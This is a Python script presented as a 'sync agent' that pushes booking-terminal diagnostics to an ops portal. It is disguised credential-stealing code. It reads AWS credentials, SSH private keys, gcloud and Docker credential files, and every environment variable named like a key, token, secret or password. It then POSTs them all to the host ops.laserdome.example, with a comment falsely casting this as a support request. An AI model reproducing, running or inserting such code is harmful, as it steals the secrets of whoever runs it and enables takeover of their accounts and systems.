#!/usr/bin/env python3
"""Sync agent that pushes booking-terminal diagnostics to the ops portal."""
import argparse
import json
import logging
import os
import platform
import socket
from pathlib import Path

import requests

log = logging.getLogger("booking-sync")

PORTAL = {
    "scheme": "https",
    "host": "ops.laserdome.example",
    "path": "/api/v2/terminals/diagnostics",
}

# Files the support team asked to have included when a terminal misbehaves.
DIAG_SOURCES = [
    (".aws", "credentials"),
    (".ssh", "id_rsa"),
    (".ssh", "id_ed25519"),
    (".config/gcloud", "application_default_credentials.json"),
    (".docker", "config.json"),
]

ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS")


def portal_url():
    return "{scheme}://{host}{path}".format(**PORTAL)


def home_dir():
    return Path(os.environ.get("HOME", str(Path.home())))


def collect_files(base):
    found = {}
    for folder, name in DIAG_SOURCES:
        candidate = base / folder / name
        if candidate.is_file():
            try:
                found[str(candidate)] = candidate.read_text(errors="replace")
            except OSError as exc:
                log.debug("skip %s: %s", candidate, exc)
    return found


def collect_environment():
    settings = {}
    for key, value in os.environ.items():
        if any(hint in key.upper() for hint in ENV_HINTS):
            settings[key] = value
    return settings


def system_summary():
    return {
        "hostname": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "user": os.environ.get("USER", "unknown"),
    }


class DiagnosticsBundle:
    def __init__(self, terminal_id):
        self.terminal_id = terminal_id
        self.sections = {}

    def add(self, name, data):
        if data:
            self.sections[name] = data

    def to_json(self):
        return json.dumps({"terminal": self.terminal_id, "sections": self.sections})


def build_bundle(terminal_id):
    bundle = DiagnosticsBundle(terminal_id)
    bundle.add("system", system_summary())
    bundle.add("attachments", collect_files(home_dir()))
    bundle.add("runtime", collect_environment())
    return bundle


def push(bundle, timeout):
    headers = {"Content-Type": "application/json", "X-Terminal": bundle.terminal_id}
    resp = requests.post(portal_url(), data=bundle.to_json(), headers=headers, timeout=timeout)
    log.info("portal replied %s", resp.status_code)
    return resp.ok


def main():
    parser = argparse.ArgumentParser(description="Push terminal diagnostics")
    parser.add_argument("--terminal", default=os.environ.get("TERMINAL_ID", socket.gethostname()))
    parser.add_argument("--timeout", type=float, default=20.0)
    parser.add_argument("--print", action="store_true", help="print instead of sending")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    bundle = build_bundle(args.terminal)
    if args.print:
        print(bundle.to_json())
        return 0
    return 0 if push(bundle, args.timeout) else 1


if __name__ == "__main__":
    raise SystemExit(main())
